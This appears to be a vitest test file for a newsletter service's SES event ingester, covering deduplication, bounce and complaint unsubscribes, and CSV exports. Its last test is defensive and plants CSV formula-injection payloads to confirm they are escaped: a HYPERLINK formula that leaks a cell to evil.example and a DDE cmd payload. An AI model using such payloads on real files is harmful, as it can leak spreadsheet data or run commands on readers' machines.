import { describe, expect, it } from 'vitest';
import { utcDay } from '../../shared/events/days.js';
import { eventPaths } from '../../shared/events/paths.js';
import { s3EventStore } from '../../shared/events/store.js';
import { createList } from '../../shared/lists/lists.js';
import { applySubscribers, getSubscriber } from '../../shared/subscribers/service.js';
import { sesFixture, snsEvent, sqsEvent } from '../fixtures/ses/fixtures.js';
import { ingestSes, sesNotification } from '../helpers/ses.js';
import { parseCsv } from '../helpers/csv.js';
import { newClient, request, useService, type TestClient } from '../helpers/service.js';

const service = useService();
const rawObjects = async (client: TestClient, event: 'nl_send' | 'nl_bounce' | 'nl_display') => (await s3EventStore().list(eventPaths.raw(client.username, event, today()))).length;
const today = () => utcDay(new Date());
const lines = async (client: TestClient, event: string) => {
  const reply = await request(`${service.url}/v1/newsletters/events/${event}/${today()}`, { token: client.token });
  expect(reply.status).toBe(200);
  return reply.text.split('\r\n').slice(1, -1);
};

describe('SES delivery-event ingester', () => {
  it('records each SNS message once, however often SNS delivers it', async () => {
    const client = await newClient(service, { premiumEvents: true });
    const event = snsEvent([sesNotification('send', client, 'once@x.io')], ['sns-message-1']);
    expect(await ingestSes(event)).toMatchObject({ events: 1 });
    expect(await ingestSes(event)).toMatchObject({ events: 1 });
    expect(await lines(client, 'nl_send')).toHaveLength(1);
  });

  it('writes ONE raw object per SQS batch per client, event and day, and a redelivered batch adds no line to the file', async () => {
    const [a, b] = [await newClient(service, { premiumEvents: true }), await newClient(service, { premiumEvents: true })];
    const sends = Array.from({ length: 40 }, (_, i) => sesNotification('send', i % 2 ? a : b, `r${i}@x.io`));
    const batch = sqsEvent([...sends, sesNotification('open', a, 'r1@x.io'), sesNotification('bounce-transient', a, 'r3@x.io')]);
    expect(await ingestSes(batch)).toMatchObject({ notifications: 42, events: 42, batchItemFailures: [] });
    expect([await rawObjects(a, 'nl_send'), await rawObjects(b, 'nl_send'), await rawObjects(a, 'nl_display'), await rawObjects(a, 'nl_bounce')]).toEqual([1, 1, 1, 1]);
    // SQS delivers the whole batch again, then part of it within a different batch.
    await ingestSes(batch);
    await ingestSes({ Records: [batch.Records[0], ...sqsEvent([sesNotification('send', b, 'new@x.io')]).Records, batch.Records[2]] });
    expect(await rawObjects(b, 'nl_send')).toBe(3);
    const bLines = await lines(b, 'nl_send');
    expect(bLines).toHaveLength(21);
    expect(bLines.map((l) => l.split(',')[1]).sort()).toEqual([...Array.from({ length: 20 }, (_, i) => `r${2 * i}@x.io`), 'new@x.io'].sort());
    expect(bLines.every((l) => l.split(',').length === 5)).toBe(true); // the hidden id is not a column
    expect(await lines(a, 'nl_send')).toHaveLength(20);
    expect(await lines(a, 'nl_display')).toHaveLength(1);
  });

  it('takes SQS bodies with raw message delivery too, and ignores bodies in no known shape', async () => {
    const client = await newClient(service, { premiumEvents: true });
    const raw = sqsEvent([sesNotification('send', client, 'raw@x.io')], { raw: true });
    expect(await ingestSes(raw)).toMatchObject({ events: 1, batchItemFailures: [] });
    expect(await ingestSes(raw)).toMatchObject({ events: 1 });
    expect(await ingestSes({ Records: [{ messageId: 'q-1', body: 'not json' }] })).toMatchObject({ events: 0, ignored: ['not an SES notification'], batchItemFailures: [] });
    expect(await lines(client, 'nl_send')).toEqual([expect.stringMatching(/,raw@x\.io,cmp-42,nl-7,\d+$/)]);
  });

  it('drops notifications of unknown clients without writing anything', async () => {
    const n = sesFixture('send', { client: 'no-such-client-x1' });
    expect(await ingestSes(snsEvent([n]))).toMatchObject({ events: 0, ignored: ['unknown client no-such-client-x1'] });
  });

  it('a hard bounce unsubscribes the address from the tagged list with cause HARD_BOUNCE (counts exact, once per SNS message) and records nl_bounce and nl_unsubscribe', async () => {
    const client = await newClient(service, { premiumEvents: true });
    await applySubscribers(client.username, client.defaultListId, [{ line: 1, email: 'gone@x.io', subscribed: true }]);
    const bounce = snsEvent([sesNotification('bounce-permanent', client, 'gone@x.io')]);
    expect(await ingestSes(bounce)).toMatchObject({ events: 1, unsubscribed: 1 });
    expect(await getSubscriber(client.username, client.defaultListId, 'gone@x.io')).toMatchObject({ subscribed: false, unsubscribedCause: 'HARD_BOUNCE' });
    expect(await ingestSes(bounce)).toMatchObject({ unsubscribed: 0 });
    const count = await request(`${service.url}/v1/newsletters/lists/${client.defaultListId}/subscribers/count`, { token: client.token });
    expect(count.body).toEqual({ subscribed: 0, unsubscribed: 1, cause: { HARD_BOUNCE: 1, PUBLISHER: 0, READER: 0 } });
    const bounces = await lines(client, 'nl_bounce');
    expect(bounces).toHaveLength(1);
    expect(bounces[0]).toMatch(/,gone@x\.io,cmp-42,nl-7,\d+,hard,smtp; 550 5\.1\.1 user unknown$/);
    const unsubscribes = await lines(client, 'nl_unsubscribe');
    expect(unsubscribes).toHaveLength(1);
    expect(unsubscribes[0]).toMatch(new RegExp(`,gone@x\\.io,HARD_BOUNCE,${client.defaultListId}$`));
  });

  it('a hard bounce unsubscribes the address from EVERY list of its client where it is subscribed, with or without a list tag; other clients untouched', async () => {
    const client = await newClient(service, { premiumEvents: true });
    const other = await newClient(service, { premiumEvents: true });
    const second = await createList(client.username, 'Second');
    const third = await createList(client.username, 'Third');
    await applySubscribers(client.username, client.defaultListId, [{ line: 1, email: 'dead@x.io', subscribed: true }]);
    await applySubscribers(client.username, second.id, [{ line: 1, email: 'dead@x.io', subscribed: true }]);
    await applySubscribers(client.username, third.id, [{ line: 1, email: 'dead@x.io', subscribed: false, unsubscribedCause: 'READER' }]);
    await applySubscribers(other.username, other.defaultListId, [{ line: 1, email: 'dead@x.io', subscribed: true }]);
    const bounce = sesNotification('bounce-permanent', client, 'dead@x.io');
    delete bounce.mail.tags!.email_list_id;
    const event = sqsEvent([bounce]);
    expect(await ingestSes(event)).toMatchObject({ events: 1, unsubscribed: 2, batchItemFailures: [] });
    expect(await getSubscriber(client.username, client.defaultListId, 'dead@x.io')).toMatchObject({ subscribed: false, unsubscribedCause: 'HARD_BOUNCE' });
    expect(await getSubscriber(client.username, second.id, 'dead@x.io')).toMatchObject({ subscribed: false, unsubscribedCause: 'HARD_BOUNCE' });
    expect(await getSubscriber(client.username, third.id, 'dead@x.io')).toMatchObject({ subscribed: false, unsubscribedCause: 'READER' });
    expect(await getSubscriber(other.username, other.defaultListId, 'dead@x.io')).toMatchObject({ subscribed: true });
    expect(await ingestSes(event)).toMatchObject({ unsubscribed: 0 });
    const unsubscribes = await lines(client, 'nl_unsubscribe');
    expect(unsubscribes.map((l) => l.split(',').slice(1).join(',')).sort()).toEqual([`dead@x.io,HARD_BOUNCE,${client.defaultListId}`, `dead@x.io,HARD_BOUNCE,${second.id}`].sort());
    // An address on no list: nothing changes (a log line says so).
    expect(await ingestSes(sqsEvent([sesNotification('bounce-permanent', client, 'nobody@x.io')]))).toMatchObject({ events: 1, unsubscribed: 0 });
  });

  it('a soft bounce changes nothing; a complaint unsubscribes with cause READER', async () => {
    const client = await newClient(service, { premiumEvents: true });
    await applySubscribers(client.username, client.defaultListId, [
      { line: 1, email: 'soft@x.io', subscribed: true },
      { line: 2, email: 'angry@x.io', subscribed: true },
    ]);
    expect(await ingestSes(snsEvent([sesNotification('bounce-transient', client, 'soft@x.io')]))).toMatchObject({ unsubscribed: 0 });
    expect(await getSubscriber(client.username, client.defaultListId, 'soft@x.io')).toMatchObject({ subscribed: true });
    expect(await ingestSes(snsEvent([sesNotification('complaint', client, 'angry@x.io')]))).toMatchObject({ events: 1, unsubscribed: 1 });
    expect(await getSubscriber(client.username, client.defaultListId, 'angry@x.io')).toMatchObject({ subscribed: false, unsubscribedCause: 'READER' });
    const count = await request(`${service.url}/v1/newsletters/lists/${client.defaultListId}/subscribers/count`, { token: client.token });
    expect(count.body).toEqual({ subscribed: 1, unsubscribed: 1, cause: { HARD_BOUNCE: 0, PUBLISHER: 0, READER: 1 } });
    expect(await lines(client, 'nl_complaint')).toEqual([expect.stringMatching(/,angry@x\.io,cmp-42,nl-7,\d+,abuse$/)]);
  });

  it('event files cannot attack their readers: bounce messages, click targets and addresses that start a formula are escaped; raw=true gives the recorded values', async () => {
    const client = await newClient(service, { premiumEvents: true });
    const leak = '=HYPERLINK("http://evil.example/?leak="&B2,"Click me")';
    const bounce = sesNotification('bounce-transient', client, 'soft@x.io');
    bounce.bounce!.bouncedRecipients[0].diagnosticCode = leak;
    const click = sesNotification('click', client, 'reader@x.io');
    click.click!.link = "=cmd|' /C calc'!A0";
    const send = sesNotification('send', client, '+1+cmd@x.io');
    await ingestSes(sqsEvent([bounce, click, send]));
    const row = async (event: string, raw = false) => {
      const reply = await request(`${service.url}/v1/newsletters/events/${event}/${today()}${raw ? '?raw=true' : ''}`, { token: client.token });
      expect(reply.status).toBe(200);
      return (await parseCsv(reply.text))[1];
    };
    expect((await row('nl_bounce')).at(-1)).toBe(`'${leak}`);
    expect((await row('nl_click'))[6]).toBe("'=cmd|' /C calc'!A0");
    expect((await row('nl_send'))[1]).toBe("'+1+cmd@x.io");
    // No cell of any of these files starts a formula.
    for (const event of ['nl_bounce', 'nl_click', 'nl_send']) for (const cell of await row(event)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // Asked for explicitly, the recorded values.
    expect((await row('nl_bounce', true)).at(-1)).toBe(leak);
    expect((await row('nl_click', true))[6]).toBe("=cmd|' /C calc'!A0");
    expect((await row('nl_send', true))[1]).toBe('+1+cmd@x.io');
  });
});
